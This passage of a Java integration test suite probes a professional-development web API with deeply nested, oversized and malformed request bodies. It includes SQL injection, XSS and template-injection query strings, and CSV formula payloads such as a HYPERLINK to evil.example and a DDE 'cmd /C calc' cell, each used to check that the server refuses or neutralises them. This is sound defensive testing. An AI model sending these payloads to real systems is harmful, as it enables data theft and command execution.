    {"\"NaN\"", "NaN as text"},
    {"2147483648", "2^31"},
    {"1.5", "a fraction"},
  };

  private int refusedField(Target target, String field, String rawJson) {
    String subject = target.subject().get();
    Http as = target.as().get();
    String state =
        target.state() != null
            ? target.state()
            : target.read() == null ? null : target.read().formatted(subject);
    String before = state == null ? null : read(as, state);
    String body = with(target.body().apply(subject), field, rawJson);
    HttpResponse<String> response =
        send(as, target.method(), target.path().formatted(subject), JSON, bytes(body));
    refused(response);
    if (state != null) {
      assertThat(read(as, state)).as("nothing written").isEqualTo(before);
    }
    return response.statusCode();
  }

  // ---------------------------------------------------------------------------------------------
  // Bodies: nesting, size, content types, malformed JSON

  private List<DynamicTest> bodyCases() {
    String entries = "api/people/" + worker + "/cpd-entries";
    String state = entries + "?limit=1000";
    String deep = "[".repeat(10_000) + "]".repeat(10_000);
    String deepObject = "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000);
    String deepInside = entry(null).replaceFirst("\\{", "{\"extra\":" + deep + ",");
    String valid = entry(null);
    byte[] fiveMegabytes =
        with(valid, "title", quote("t".repeat(5 * 1024 * 1024))).getBytes(StandardCharsets.UTF_8);
    String padded =
        valid.replaceFirst("\\{", "{\"padding\":" + quote("p".repeat(8 * 1024 * 1024)) + ",");
    List<Object[]> bodies = new ArrayList<>();
    bodies.add(new Object[] {"NESTING", "10,000 nested arrays", JSON, deep});
    bodies.add(new Object[] {"NESTING", "10,000 nested objects", JSON, deepObject});
    bodies.add(new Object[] {"NESTING", "10,000 levels in an unknown field", JSON, deepInside});
    bodies.add(new Object[] {"OVERSIZE", "5 MB title", JSON, fiveMegabytes});
    bodies.add(new Object[] {"OVERSIZE", "8 MB unknown field", JSON, padded});
    bodies.add(new Object[] {"CONTENT_TYPE", "text/plain", "text/plain", valid});
    bodies.add(
        new Object[] {
          "CONTENT_TYPE", "application/xml", "application/xml", "<entry><title>x</title></entry>"
        });
    bodies.add(new Object[] {"CONTENT_TYPE", "no content type", null, valid});
    bodies.add(
        new Object[] {
          "CONTENT_TYPE", "form encoded", "application/x-www-form-urlencoded", "title=x&type=COURSE"
        });
    bodies.add(
        new Object[] {
          "CONTENT_TYPE", "unknown charset", "application/json; charset=klingon", valid
        });
    bodies.add(
        new Object[] {
          "CONTENT_TYPE",
          "JSON as UTF-16 said to be UTF-8",
          JSON,
          valid.getBytes(StandardCharsets.UTF_16)
        });
    bodies.add(new Object[] {"MALFORMED", "unclosed object", JSON, "{\"title\":\"x\""});
    bodies.add(new Object[] {"MALFORMED", "missing value", JSON, "{\"title\":}"});
    bodies.add(new Object[] {"MALFORMED", "trailing comma", JSON, "{\"title\":\"x\",}"});
    bodies.add(new Object[] {"MALFORMED", "single quotes", JSON, "{'title':'x'}"});
    bodies.add(
        new Object[] {
          "MALFORMED", "key twice", JSON, valid.replaceFirst("\\{", "{\"title\":\"first\",")
        });
    bodies.add(new Object[] {"MALFORMED", "two documents", JSON, valid + valid});
    bodies.add(new Object[] {"MALFORMED", "comment", JSON, "/* hi */" + valid});
    bodies.add(
        new Object[] {
          "MALFORMED",
          "invalid UTF-8",
          JSON,
          new byte[] {
            '{', '"', 't', 'i', 't', 'l', 'e', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'
          }
        });
    bodies.add(
        new Object[] {
          "MALFORMED", "lone surrogate escape", JSON, valid.replace("Bad input probe", "\\uD800")
        });
    bodies.add(
        new Object[] {
          "MALFORMED", "NaN literal", JSON, valid.replace("\"hours\":1", "\"hours\":NaN")
        });
    bodies.add(
        new Object[] {
          "MALFORMED",
          "raw NUL byte in a string",
          JSON,
          valid.replace("Bad input probe", "a\u0000b")
        });
    bodies.add(new Object[] {"TYPE", "array for object", JSON, "[" + valid + "]"});
    bodies.add(new Object[] {"TYPE", "a string body", JSON, "\"entry\""});
    bodies.add(new Object[] {"TYPE", "a null body", JSON, "null"});
    bodies.add(new Object[] {"TYPE", "an empty body", JSON, ""});
    bodies.add(new Object[] {"TYPE", "an empty object", JSON, "{}"});
    bodies.add(new Object[] {"TYPE", "white space only", JSON, " \r\n "});
    List<DynamicTest> tests = new ArrayList<>();
    for (Object[] b : bodies) {
      byte[] content = b[3] instanceof byte[] raw ? raw : bytes((String) b[3]);
      tests.add(
          test(
              (String) b[0],
              "cpd entry body: " + b[1],
              () -> {
                String before = read(asWorker, state);
                HttpResponse<String> response =
                    send(asWorker, "POST", entries, (String) b[2], content);
                refused(response, expectedStatus((String) b[0]));
                assertThat(read(asWorker, state)).as("nothing written").isEqualTo(before);
                return response.statusCode();
              }));
    }
    // The same bodies, fewer of them, at the other components' JSON readers. A framework's CASE
    // package may be 20 MB: past that is too large there.
    byte[] pastPackageLimit =
        bytes(valid.replaceFirst("\\{", "{\"padding\":" + quote("p".repeat(21 << 20)) + ","));
    String[][] others = {
      {"api/frameworks/LWCF/1/stages", "PUT", "steward", "api/frameworks/LWCF/1"},
      {"api/frameworks?preview=true", "POST", "steward", "api/frameworks"},
      {"api/frameworks", "POST", "steward", "api/frameworks"},
      {"api/organisations", "POST", "steward", "api/organisations?limit=1000"},
      {"api/courses", "POST", "provider", null},
      {"api/me/tokens", "POST", "worker", "api/me/tokens"},
      {"api/people/%w/assessments", "POST", "supervisor", "api/people/%w/assessments"},
      {"api/organisations/%o/schemes", "POST", "employer", "api/organisations/%o/schemes"},
      {
        "api/organisations/%o/supervision-target",
        "PUT",
        "employer",
        "api/organisations/%o/supervision-target"
      },
      {"api/me/password", "PUT", "worker", "api/me"},
      {"api/reports/gap-reports", "POST", "employer", "api/reports/gap-reports?limit=1000"},
    };
    Object[][] kinds = {
      {"NESTING", "10,000 nested arrays", JSON, bytes(deep)},
      {"NESTING", "10,000 nested objects", JSON, bytes(deepObject)},
      {"OVERSIZE", "8 MB", JSON, bytes(padded)},
      {"CONTENT_TYPE", "application/xml", "application/xml", bytes("<x/>")},
      {"MALFORMED", "unclosed object", JSON, bytes("{\"name\":")},
      {"TYPE", "a string body", JSON, bytes("\"x\"")},
    };
    for (String[] endpoint : others) {
      for (Object[] kind : kinds) {
        tests.add(
            test(
                (String) kind[0],
                endpoint[1] + " " + endpoint[0] + ": " + kind[1],
                () -> {
                  Http as = actor(endpoint[2]);
                  String path = endpoint[0].replace("%w", worker).replace("%o", organisation);
                  String after =
                      endpoint[3] == null
                          ? null
                          : endpoint[3].replace("%w", worker).replace("%o", organisation);
                  String before = after == null ? null : read(as, after);
                  byte[] body =
                      kind[0].equals("OVERSIZE") && path.matches("api/frameworks(\\?.*)?")
                          ? pastPackageLimit
                          : (byte[]) kind[3];
                  HttpResponse<String> response =
                      send(as, endpoint[1], path, (String) kind[2], body);
                  refused(response, expectedStatus((String) kind[0]));
                  if (after != null) {
                    assertThat(read(as, after)).as("nothing written").isEqualTo(before);
                  }
                  return response.statusCode();
                }));
      }
    }
    // A CASE package may come as bytes (application/octet-stream), past the JSON body limits.
    for (Object[] kind : kinds) {
      if (!kind[2].equals(JSON)) {
        continue;
      }
      tests.add(
          test(
              (String) kind[0],
              "POST api/frameworks as application/octet-stream: " + kind[1],
              () -> {
                String before = read(asSteward, "api/frameworks");
                HttpResponse<String> response =
                    send(
                        asSteward,
                        "POST",
                        "api/frameworks",
                        "application/octet-stream",
                        kind[0].equals("OVERSIZE") ? pastPackageLimit : (byte[]) kind[3]);
                refused(response, expectedStatus((String) kind[0]));
                assertThat(read(asSteward, "api/frameworks")).isEqualTo(before);
                return response.statusCode();
              }));
    }
    return tests;
  }

  private Http actor(String who) {
    return switch (who) {
      case "steward" -> asSteward;
      case "provider" -> asProvider;
      case "worker" -> asWorker;
      case "supervisor" -> asSupervisor;
      case "employer" -> asEmployer;
      default -> throw new IllegalArgumentException(who);
    };
  }

  // ---------------------------------------------------------------------------------------------
  // Query and path parameters on reads

  private List<DynamicTest> queryCases() {
    String w = "api/people/" + worker;
    String o = "api/organisations/" + organisation;
    String[][] reads = {
      {w + "/cpd-entries?from=2026-02-30", "worker"},
      {w + "/cpd-entries?from=not-a-date", "worker"},
      {w + "/cpd-entries?to=%2B99999-01-01", "worker"},
      {w + "/cpd-entries?status=%3Cscript%3E", "worker"},
      {w + "/cpd-entries?limit=-1", "worker"},
      {w + "/cpd-entries?limit=1e308", "worker"},
      {w + "/cpd-entries?offset=-5", "worker"},
      {w + "/cpd-entries?offset=NaN", "worker"},
      {w + "/cpd-entries?limit=99999999999999999999", "worker"},
      {w + "/attainment?on=2026-13-01", "worker"},
      {w + "/attainment?on=0000-00-00", "worker"},
      {w + "/gap-report?stage=%27%20OR%20%271%27%3D%271", "worker"},
      {w + "/gap-report?stage=%23%7B7*7%7D", "worker"},
      {w + "/compliance?scheme=%3Cscript%3E", "worker"},
      {w + "/compliance?on=not-a-date", "worker"},
      {w + "/cpd-summary?from=2026-02-30", "worker"},
      {"api/people/%27%20OR%20%271%27%3D%271/cpd-entries", "worker"},
      {"api/cpd-entries/%3Cscript%3Ealert(1)%3C%2Fscript%3E", "worker"},
      {"api/cpd-entries/" + "a".repeat(5000), "worker"},
      {"api/courses?level=abc", "worker"},
      {"api/courses?level=-1", "worker"},
      {"api/courses?competency=%27%3B%20DROP%20TABLE%20course%3B%20--", "worker"},
      {"api/courses?limit=1001", "worker"},
      {"api/courses?provider=%00", "worker"},
      {"api/frameworks/LWCF/%3Cscript%3E", "worker"},
      {"api/frameworks/LWCF/1/diff?from=%24%7B7*7%7D", "worker"},
      {o + "/coverage?part=%3Cscript%3E", "employer"},
      {o + "/training-needs?on=2026-02-30", "employer"},
      {o + "/supervision?on=99999-99-99", "employer"},
      {o + "/compliance?on=2026-02-30", "employer"},
      {"api/audit?from=2026-02-30", "steward"},
      {"api/audit?limit=-1", "steward"},
      {"api/reports/national?on=2026-02-30", "steward"},
      {"api/imports/%3Cscript%3E", "worker"},
    };
    List<DynamicTest> tests = new ArrayList<>();
    for (String[] r : reads) {
      tests.add(
          test(
              "QUERY",
              "GET " + r[0],
              () -> {
                HttpResponse<String> response = actor(r[1]).getJson(r[0]);
                // A read may ignore what it does not use; it may never fail on it.
                assertThat(response.statusCode()).as(response.body()).isLessThan(500);
                if (response.statusCode() >= 400) {
                  refused(response);
                }
                return response.statusCode();
              }));
    }
    return tests;
  }

  // ---------------------------------------------------------------------------------------------
  // CSV: formulas imported, stored as text and neutralised on every download

  private static final String[] FORMULAS = {
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
  };

  private List<DynamicTest> csvCases() {
    List<DynamicTest> tests = new ArrayList<>();
    String courseImports = "api/courses/imports";
    String cpdImports = "api/people/" + worker + "/cpd-entries/imports";
    tests.add(
        test(
            "CSV_FORMULA",
            "course import: formulas in every text cell are stored as text",
            () -> {
              StringBuilder file =
                  new StringBuilder(
                      "code,title,description,deliveryMode,hours,cpdHours,accreditation,url,status,mappings\r\n");
              for (int i = 0; i < FORMULAS.length; i++) {
                file.append(csvCell("BI-F" + i + "-" + run))
                    .append(',')
                    .append(csvCell(FORMULAS[i]))
                    .append(',')
                    .append(csvCell(FORMULAS[i]))
                    .append(",ONLINE,1,,")
                    .append(csvCell(FORMULAS[i]))
                    .append(",,DRAFT,\r\n");
              }
              JsonObject done = importAndWait(asProvider, courseImports, bytes(file.toString()));
              assertThat(done.getString("status")).isEqualTo("COMPLETED");
              assertThat(done.getInt("rejected")).as(done.toString()).isZero();
              JsonArray mine =
                  Http.json(asProvider.getJson("api/courses?limit=1000")).asJsonArray();
              for (int i = 0; i < FORMULAS.length; i++) {
                String code = "BI-F" + i + "-" + run;
                JsonObject stored =
                    mine.getValuesAs(JsonObject.class).stream()
                        .filter(c -> code.equals(c.getString("code", null)))
                        .findFirst()
                        .orElseThrow();
                assertThat(stored.getString("title")).isEqualTo(FORMULAS[i]);
                assertThat(stored.getString("description")).isEqualTo(FORMULAS[i]);
                assertThat(stored.getString("accreditation")).isEqualTo(FORMULAS[i]);
              }
              return 202;
            }));
    tests.add(
        test(
            "CSV_FORMULA",
            "cpd import: formulas stored as text, bad rows listed in a neutralised error CSV",
            () -> {
              StringBuilder file =
                  new StringBuilder(
                      "key,date,title,type,hours,participatory,standard,what,learned,change,claims,status\r\n");
              for (int i = 0; i < FORMULAS.length; i++) {
                file.append(csvCell("bi-" + i))
                    .append(',')
                    .append(LocalDate.now().minusDays(1))
                    .append(',')
                    .append(csvCell(FORMULAS[i]))
                    .append(",READING,1,,,")
                    .append(csvCell(FORMULAS[i]))
                    .append(",,,,\r\n");
                // The same formula where a date, a type and a claim belong: each row refused.
                file.append(csvCell("bx-" + i))
                    .append(',')
                    .append(csvCell(FORMULAS[i]))
                    .append(",x,")
                    .append(csvCell(FORMULAS[i]))
                    .append(",1,,,,,,")
                    .append(csvCell(FORMULAS[i]))
                    .append(",\r\n");
              }
              JsonObject done = importAndWait(asWorker, cpdImports, bytes(file.toString()));
              assertThat(done.getString("status")).isEqualTo("COMPLETED");
              assertThat(done.getInt("rejected")).as(done.toString()).isEqualTo(FORMULAS.length);
              JsonArray entries =
                  Http.json(asWorker.getJson("api/people/" + worker + "/cpd-entries?limit=1000"))
                      .asJsonArray();
              for (String formula : FORMULAS) {
                assertThat(
                        entries.getValuesAs(JsonObject.class).stream()
                            .filter(e -> formula.equals(e.getString("title")))
                            .filter(
                                e ->
                                    !e.isNull("reflection")
                                        && formula.equals(
                                            e.getJsonObject("reflection").getString("what", null))))
                    .as(formula)
                    .hasSize(1);
              }
              HttpResponse<String> errors =
                  asWorker.get("api/imports/" + done.getString("id") + "/errors", "text/csv");
              assertThat(errors.statusCode()).isEqualTo(200);
              noFormulaIn(errors.body());
              return 202;
            }));
    Object[][] files = {
      {"empty file", new byte[0], "text/csv"},
      {"header only", bytes("code,title,deliveryMode,hours\r\n"), "text/csv"},
      {"NUL bytes", new byte[] {'c', 'o', 'd', 'e', 0, ',', 't', '\r', '\n', 0, 0, 0}, "text/csv"},
      {
        "not UTF-8",
        "code,title,deliveryMode,hours\r\nA,Caf\u00e9,ONLINE,1\r\n"
            .getBytes(StandardCharsets.ISO_8859_1),
        "text/csv"
      },
      {"binary", new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0, 0, 13}, "text/csv"},
      {"JSON said to be CSV", bytes("{\"code\":\"x\"}"), "text/csv"},
      {"CSV said to be JSON", bytes("code,title,deliveryMode,hours\r\nA,B,ONLINE,1\r\n"), JSON},
      {
        "CSV said to be XML",
        bytes("code,title,deliveryMode,hours\r\nA,B,ONLINE,1\r\n"),
        "application/xml"
      },
      {
        "unknown column (XSS)",
        bytes("code,title,deliveryMode,hours,<script>\r\nA,B,ONLINE,1,x\r\n"),
        "text/csv"
      },
      {"formula as a column name", bytes("=HYPERLINK(\"x\"),code,title\r\n1,2,3\r\n"), "text/csv"},
      {"unclosed quote", bytes("code,title,deliveryMode,hours\r\n\"A,B,ONLINE,1\r\n"), "text/csv"},
    };
    for (Object[] f : files) {
      for (String[] endpoint :
          new String[][] {
            {courseImports, "provider", null},
            {cpdImports, "worker", "api/people/" + worker + "/cpd-entries?limit=1000"}
          }) {
        tests.add(
            test(
                "CSV_FILE",
                "POST " + endpoint[0] + ": " + f[0],
                () -> {
                  Http as = actor(endpoint[1]);
                  String before =
                      endpoint[2] == null
                          ? read(as, "api/courses?limit=1000")
                          : read(as, endpoint[2]);
                  HttpResponse<String> response =
                      send(as, "POST", endpoint[0], (String) f[2], (byte[]) f[1]);
                  if (response.statusCode() == 202) {
                    // Taken as a file: every row must then be refused and nothing written.
                    String location = response.headers().firstValue("Location").orElseThrow();
                    JsonObject done =
                        waitFor(as, location.substring(location.indexOf("api/imports/")));
                    assertThat(done.getInt("created")).as(done.toString()).isZero();
                    assertThat(done.getInt("updated")).as(done.toString()).isZero();
                    noFormulaIn(
                        as.get("api/imports/" + done.getString("id") + "/errors", "text/csv")
                            .body());
                  } else {
                    refused(response);
                  }
                  String after =
                      endpoint[2] == null
                          ? read(as, "api/courses?limit=1000")
                          : read(as, endpoint[2]);
                  assertThat(after).as("nothing written").isEqualTo(before);
                  return response.statusCode();
                }));
      }
    }
    // Every CSV download that can hold what someone typed: no cell a spreadsheet would run.
    String o = "api/organisations/" + organisation;
    String[][] downloads = {
      {o + "/supervision", "employer"},
      {o + "/compliance", "employer"},
      {o + "/coverage", "employer"},
      {o + "/training-needs", "employer"},
      {"api/people/" + worker + "/gap-report", "worker"},
      {"api/provision", "worker"},
    };
    for (String[] d : downloads) {
      tests.add(
          test(
              "CSV_FORMULA",
              "download " + d[0] + " after people named with formulas",
              () -> {
                formulaPeople();
                HttpResponse<String> csv = actor(d[1]).get(d[0], "text/csv");
                assertThat(csv.statusCode()).as(csv.body()).isEqualTo(200);
                assertThat(csv.headers().firstValue("Content-Type").orElse(""))
                    .startsWith("text/csv");
                noFormulaIn(csv.body());
                if (d[0].endsWith("/supervision") || d[0].endsWith("/compliance")) {
                  List<String> cells = cells(csv.body());
                  for (String formula : FORMULAS) {
                    assertThat(cells).contains("'" + formula);
                  }
                }
                return csv.statusCode();
              }));
    }
    return tests;
  }

  private boolean formulaPeopleMade;

  /** People of the organisation whose display names are the formulas (once). */
  private synchronized void formulaPeople() {
    if (formulaPeopleMade) {
      return;
    }
    for (int i = 0; i < FORMULAS.length; i++) {
      HttpResponse<String> made =
          asEmployer.postJson(
              "api/organisations/" + organisation + "/people",
              "{\"username\":\"bif"
                  + i
                  + run
                  + "\",\"displayName\":"
                  + quote(FORMULAS[i])
                  + ",\"password\":\""
                  + PASSWORD
                  + "\",\"roles\":[\"LINK_WORKER\"],\"stage\":\"LINK_WORKER\",\"supervisor\":\""
                  + supervisor
                  + "\"}");
      assertThat(made.statusCode()).as(made.body()).isEqualTo(201);
    }
    formulaPeopleMade = true;
  }

  static String csvCell(String text) {
    return "\"" + text.replace("\"", "\"\"") + "\"";
  }

  /** Every text cell of the CSV that starts like a formula is quoted with an apostrophe. */
  static void noFormulaIn(String csv) {
    for (String cell : cells(csv)) {
      if (cell.isEmpty() || isNumber(cell)) {
        continue;
      }
      assertThat("=+-@\t\r".indexOf(cell.charAt(0)))
          .as("a cell a spreadsheet would run: %s", cell)
          .isNegative();
    }
  }

  static List<String> cells(String csv) {
    List<String> cells = new ArrayList<>();
    try (CSVParser parser = CSVParser.parse(csv, CSVFormat.RFC4180)) {
      for (CSVRecord record : parser) {
        record.forEach(cells::add);
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return cells;
  }

  private static boolean isNumber(String cell) {
    try {
      new java.math.BigDecimal(cell);
      return true;
    } catch (NumberFormatException notANumber) {
      return false;
    }
  }

  private JsonObject importAndWait(Http as, String path, byte[] file) {
    HttpResponse<String> started = as.postCsv(path, file);
    assertThat(started.statusCode()).as(started.body()).isEqualTo(202);
    String location = started.headers().firstValue("Location").orElseThrow();
    return waitFor(as, location.substring(location.indexOf("api/imports/")));
  }

  private static JsonObject waitFor(Http as, String path) {
    Instant deadline = Instant.now().plus(Duration.ofMinutes(2));
    while (Instant.now().isBefore(deadline)) {
      JsonObject state = Http.json(as.getJson(path)).asJsonObject();
      String status = state.getString("status");
      if (!status.equals("STARTING") && !status.equals("STARTED")) {
        return state;
      }
      try {
        Thread.sleep(100);
      } catch (InterruptedException e) {
        Thread.currentThread().interrupt();
        throw new IllegalStateException(e);
      }
    }
    throw new AssertionError("the import did not end: " + path);
  }

  // ---------------------------------------------------------------------------------------------
  // Fixtures

  private void fixtures() {
    run = UUID.randomUUID().toString().substring(0, 8);
    asSteward = token(new Http(base).as("steward"));
    HttpResponse<String> org =
        asSteward.postJson(
            "api/organisations", "{\"name\":\"Bad input " + run + "\",\"kind\":\"EMPLOYER\"}");
    assertThat(org.statusCode()).as(org.body()).isEqualTo(201);
    organisation = Http.json(org).asJsonObject().getString("id");
    HttpResponse<String> providerOrg =
        asSteward.postJson(
            "api/organisations",
            "{\"name\":\"Bad input provider " + run + "\",\"kind\":\"PROVIDER\"}");
    assertThat(providerOrg.statusCode()).as(providerOrg.body()).isEqualTo(201);
    String provider =
        person(
            Http.json(providerOrg).asJsonObject().getString("id"),
            "bip" + run,
            "[\"PROVIDER\"]",
            null,
            null);
    asProvider = token(new Http(base).as(provider, PASSWORD));
    employer = person(organisation, "bie" + run, "[\"EMPLOYER\"]", null, null);
    asEmployer = token(new Http(base).as(employer, PASSWORD));
    supervisor =
        person(organisation, "bis" + run, "[\"SUPERVISOR\",\"LINK_WORKER\"]", "SENIOR", null);
    asSupervisor = token(new Http(base).as(supervisor, PASSWORD));
    worker = person(organisation, "biw" + run, "[\"LINK_WORKER\"]", "LINK_WORKER", supervisor);
    asWorker = token(new Http(base).as(worker, PASSWORD));

    draft = created(asWorker.postJson("api/people/" + worker + "/cpd-entries", entry(null)));
    course = created(asProvider.postJson("api/courses", course(null)));
    session =
        created(
            asWorker.postJson(
                "api/people/" + worker + "/supervision",
                "{\"date\":\""
                    + LocalDate.now()
                    + "\",\"minutes\":30,\"kind\":\"PEER\",\"supervisor\":\""
                    + supervisor
                    + "\"}"));
    scheme =
        created(
            asEmployer.postJson(
                "api/organisations/" + organisation + "/schemes",
                "{\"code\":\"BI_S"
                    + run.toUpperCase()
                    + "\",\"title\":\"Probe\",\"items\":[{\"competency\":\"PC.1\",\"months\":12}]}"));
  }

  /** The same person with a bearer token: no password hashing on every request. */
  private Http token(Http signedIn) {
    HttpResponse<String> issued =
        signedIn.postJson("api/me/tokens", "{\"name\":\"bad input " + run + "\",\"days\":1}");
    assertThat(issued.statusCode()).as(issued.body()).isEqualTo(201);
    return new Http(base).bearer(Http.json(issued).asJsonObject().getString("secret"));
  }

  private String person(
      String org, String username, String roles, String stage, String supervisedBy) {
    String body =
        "{\"username\":\"%s\",\"displayName\":\"Person %s\",\"password\":\"%s\",\"roles\":%s%s%s}"
            .formatted(
                username,
                username,
                PASSWORD,
                roles,
                stage == null ? "" : ",\"stage\":\"" + stage + "\"",
                supervisedBy == null ? "" : ",\"supervisor\":\"" + supervisedBy + "\"");
    HttpResponse<String> response =
        asSteward.postJson("api/organisations/" + org + "/people", body);
    assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
    return username;
  }

  private static String created(HttpResponse<String> response) {
    assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
    return Http.json(response).asJsonObject().getString("id");
  }

  private long version(String path) {
    return parse(asWorkerOrOwner(path).getJson(path).body())
        .asJsonObject()
        .getJsonNumber("version")
        .longValue();
  }

  private Http asWorkerOrOwner(String path) {
    if (path.startsWith("api/courses")) {
      return asProvider;
    }
    if (path.startsWith("api/schemes") || path.startsWith("api/people/")) {
      return asEmployer;
    }
    return asWorker;
  }

  /** A fresh entry of the worker's, submitted to the supervisor. */
  private String submittedEntry() {
    String id = created(asWorker.postJson("api/people/" + worker + "/cpd-entries", entry(null)));
    HttpResponse<String> submitted = asWorker.postJson("api/cpd-entries/" + id + "/submit", "{}");
    assertThat(submitted.statusCode()).as(submitted.body()).isEqualTo(200);
    return id;
  }

  private static String entry(Long version) {
    return "{\"date\":\""
        + LocalDate.now().minusDays(2)
        + "\",\"title\":\"Bad input probe\",\"type\":\"READING\",\"hours\":1,"
        + "\"participatory\":false,"
        + "\"reflection\":{\"what\":\"Read\",\"learned\":\"Learned\",\"change\":\"Change\"},"
        + "\"claims\":[{\"competency\":\"PC.1\",\"level\":1}]"
        + (version == null ? "" : ",\"version\":" + version)
        + "}";
  }

  private String course(Long version) {
    return "{\"code\":\"BI-"
        + UUID.randomUUID().toString().substring(0, 8)
        + "\",\"title\":\"Probe course\",\"description\":\"About probes\",\"deliveryMode\":\"ONLINE\","
        + "\"hours\":2,\"accreditation\":\"None\",\"url\":\"https://example.org/probe\","
        + "\"status\":\"DRAFT\",\"mappings\":[{\"competency\":\"PC.1\",\"level\":1,"
        + "\"strength\":\"DEVELOPS\"}]"
        + (version == null ? "" : ",\"version\":" + version)
        + "}";
  }
}
